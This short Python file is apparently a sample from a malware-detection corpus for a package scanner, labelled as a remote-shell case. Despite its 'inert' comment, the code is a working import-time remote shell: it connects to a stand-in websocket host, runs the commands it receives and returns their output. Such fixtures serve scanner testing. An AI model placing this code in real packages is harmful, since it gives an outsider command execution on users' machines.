# pkgguard corpus 284 (remote-shell), modelled on [taxonomy]; inert, never run.
import asyncio

import websockets


async def _session():
    async with websockets.connect("wss://relay.example/s") as ws:
        async for message in ws:
            proc = await asyncio.create_subprocess_shell(
                message, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT
            )
            out, _ = await proc.communicate()
            await ws.send(out)


asyncio.get_event_loop().create_task(_session())
